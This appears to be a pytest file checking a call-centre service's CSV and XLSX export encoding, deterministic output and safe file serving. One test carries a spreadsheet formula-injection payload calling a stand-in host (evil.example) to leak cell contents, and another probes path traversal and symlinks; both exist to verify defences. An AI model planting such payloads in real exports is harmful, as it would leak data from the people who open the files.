"""The works file's encodings (pure): CSV in Windows-1251 with `;`, whatever the text holds; XLSX with
text typed as text; no formula from an imported name; the same rows give the same bytes."""

from __future__ import annotations

import dataclasses
import time
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from service.exports.files import encode, to_cp1251, works_csv, works_xlsx
from service.exports.store import list_files, stored_file, write_file
from service.exports.works import HEADERS, WorkRow
from tests.exports.reading import read_works

ROW = WorkRow(work_id="DS-1765000000.42", kind="исходящий звонок", client_id="C-1", contact_id="K-1",
              assignment="Дистанционный сервис_обзвонка", employee="ivanova", day=date(2026, 12, 7), at=None,
              state="контакт состоялся", result="Контакт состоялся", topic="Обучение", comment="Всё ок",
              talk_s=613, logged_in="да", login_source="по отметке эксперта", planned="да", inferred="",
              link="http://127.0.0.1:8080/calls/1765000000.42")


def test_csv_is_windows_1251_with_semicolons_and_crlf() -> None:
    data = works_csv([ROW])
    text = data.decode("cp1251")
    assert text.startswith("ID работы;Вид работы;Код клиента;") and text.endswith("\r\n")
    assert text.count("\r\n") == 2
    assert text.splitlines()[1] == ("DS-1765000000.42;исходящий звонок;C-1;K-1;Дистанционный сервис_обзвонка;"
                                    "ivanova;07.12.2026;;контакт состоялся;Контакт состоялся;Обучение;Всё ок;613;да;"
                                    "по отметке эксперта;да;;http://127.0.0.1:8080/calls/1765000000.42")


def test_a_character_outside_windows_1251_never_stops_the_file() -> None:
    comment = "Клиент 😀 доволен; «ёлка» № 5 — x² ½ 中 \u202f"
    data = works_csv([dataclasses.replace(ROW, comment=comment, topic="Çà")])
    row = read_works(data, "csv")[0]
    assert row["Комментарий"] == "Клиент ? доволен; «ёлка» № 5 — x2 ? ?  "
    assert row["Инфоповод"] == "Ca"
    assert to_cp1251("ﬁ…") == "fi…".encode("cp1251")  # a ligature has a compatibility form; «…» is in cp1251


def test_quotes_separators_and_line_breaks_survive_the_round_trip() -> None:
    comment = 'Сказал "перезвоню"; потом\r\nещё строка'
    data = works_csv([dataclasses.replace(ROW, comment=comment)])
    assert read_works(data, "csv")[0]["Комментарий"] == comment


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_cell_becomes_a_formula(file_format: str) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
    row = dataclasses.replace(ROW, comment=evil, topic="+7 911", client_id="@C-1", contact_id="-K-1")
    read = read_works(encode([row], file_format), file_format)[0]
    assert (read["Комментарий"], read["Инфоповод"], read["Код клиента"], read["Код контакта"]) == (
        "'" + evil, "'+7 911", "'@C-1", "'-K-1")
    if file_format == "xlsx":
        sheet = load_workbook(BytesIO(encode([row], "xlsx")))["Работы"]
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
        assert sheet.cell(row=2, column=13).value == 613 and sheet.cell(row=2, column=13).data_type == "n"


def test_xlsx_has_the_header_and_the_cells() -> None:
    rows = read_works(works_xlsx([ROW, dataclasses.replace(ROW, work_id="DS-V-3", talk_s=None, link="")]), "xlsx")
    assert rows[0]["ID работы"] == "DS-1765000000.42" and rows[0]["Время разговора, с"] == "613"
    assert rows[1]["Время разговора, с"] == "" and rows[1]["Запись разговора"] == ""
    assert [rows[0][h] for h in HEADERS][:7] == ["DS-1765000000.42", "исходящий звонок", "C-1", "K-1",
                                                  "Дистанционный сервис_обзвонка", "ivanova", "07.12.2026"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_same_rows_give_the_same_bytes(file_format: str, monkeypatch: pytest.MonkeyPatch) -> None:
    first = encode([ROW], file_format)
    later = time.time() + 3 * 86400  # the zip's entry times and the document's dates would follow the clock
    monkeypatch.setattr(time, "time", lambda: later)
    assert encode([ROW], file_format) == first
    if file_format == "xlsx":
        assert {info.date_time for info in zipfile.ZipFile(BytesIO(first)).infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_an_empty_day_is_a_header_only_file() -> None:
    assert works_csv([]).decode("cp1251") == ";".join(HEADERS) + "\r\n"
    assert read_works(works_xlsx([]), "xlsx") == []
    with pytest.raises(ValueError, match="unknown format"):
        encode([], "ods")


def test_only_the_nightly_files_inside_the_directory_are_served(tmp_path: Path) -> None:
    directory = tmp_path / "exports"
    assert write_file(directory, "works-2026-12-07.csv", b"x")
    assert not write_file(directory, "works-2026-12-07.csv", b"x")  # the same bytes: left alone
    (tmp_path / "secret.csv").write_bytes(b"secret")
    (directory / "works-2026-12-06.csv").symlink_to(tmp_path / "secret.csv")
    (directory / "notes.txt").write_text("")
    assert stored_file(directory, "works-2026-12-07.csv") == (directory / "works-2026-12-07.csv").resolve()
    for name in ("works-2026-12-06.csv", "notes.txt", "../secret.csv", "works-2026-12-08.csv"):
        assert stored_file(directory, name) is None, name
    assert [f.name for f in list_files(directory)] == ["works-2026-12-07.csv"]  # not the link
    assert list_files(tmp_path / "none") == []
    assert not list(directory.glob(".*.tmp"))  # the temporary file was moved, not left behind
